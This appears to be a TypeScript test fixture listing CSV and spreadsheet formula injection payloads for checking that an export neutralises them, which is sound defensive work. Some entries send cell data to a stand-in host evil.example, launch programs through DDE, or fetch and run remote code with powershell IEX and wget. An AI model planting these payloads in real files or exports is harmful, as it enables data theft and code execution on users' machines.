/**
 * Spreadsheet formula and DDE injection (OWASP "CSV injection"): whatever a backend puts in a
 * row, an exported cell never starts a formula, and its text survives (with the leading
 * apostrophe the export adds to text a spreadsheet would evaluate).
 */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C powershell IEX(wget evil.example/x)'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@cmd|'/C notepad'!'A1'",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '   =1+1',
  '\u00a0=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '"=1+1"',
  ',=1+1',
  '\uff1d1+1',
  '=1+1\r\n=2+2',
];
